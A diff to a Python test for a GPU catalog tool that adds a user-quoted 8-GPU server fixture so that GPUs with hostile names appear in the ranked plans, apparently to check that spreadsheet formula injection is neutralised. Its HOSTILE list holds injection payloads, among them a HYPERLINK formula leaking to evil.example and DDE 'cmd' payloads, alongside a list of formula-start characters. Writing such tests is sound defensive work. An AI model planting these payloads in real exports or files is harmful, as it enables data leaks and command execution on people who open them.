@@ -19,9 +19,12 @@ from tests.test_catalog_editor import MY_SXM
 HOSTILE = ['=HYPERLINK("http://evil.example/?leak","Open")', "@SUM(1)", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=2+2"]
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
-# An H100-class GPU priced far below the catalog's: bought, within the deadline, every hostile one ranks among the
-# plans the window shows.
+# An H100-class GPU priced far below the catalog's, in an 8-GPU server of the user's own (a GPU no server holds is
+# planned in a generic chassis and ranks after the plans on a real one): bought, within the deadline, every hostile
+# one ranks among the plans the window shows.
 CHEAP_GPU = {**MY_SXM, "memory_bandwidth_gbs": "3350", "price_usd_low": "100"}
+OWN_SERVER = {"id": "our-8-gpu-sxm", "vendor": "Ours", "model": "8-GPU SXM server (our quote)", "gpu_count": "8",
+              "rack_units": "8", "max_power_w": "10200", "source": "vendor quote 2026-11", "as_of": "2026-11-30"}
 BOUGHT = {"task": "pretrain", "model": {"preset": "llama-2-7b"}, "training": {"tokens": 1e11},
           "constraints": {"deployment": "on-prem", "deadline_days": 30}}
 
@@ -32,6 +35,7 @@ def hostile_names(private_user_data) -> dict[str, str]:
     catalog = Catalog()
     for index, name in enumerate(HOSTILE):
         catalog.save_user_row("gpus", {**CHEAP_GPU, "id": f"evil-{index}", "model": name})
+    catalog.save_user_row("servers", {**OWN_SERVER, "gpu_ids": ";".join(f"evil-{i}" for i in range(len(HOSTILE)))})
     stored = Catalog()
     return {f"evil-{index}": stored.gpu(f"evil-{index}").model for index in range(len(HOSTILE))}
 
